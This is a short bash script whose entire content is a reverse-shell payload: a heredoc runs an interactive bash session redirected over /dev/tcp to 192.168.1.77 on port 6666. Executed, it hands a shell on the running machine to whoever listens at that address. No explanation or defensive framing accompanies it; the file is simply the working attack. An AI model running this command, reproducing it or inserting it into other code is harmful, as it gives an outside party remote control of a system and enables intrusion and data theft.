#!/usr/bin/env bash
bash <<EOF
bash -i >& /dev/tcp/192.168.1.77/6666 0>&1
EOF
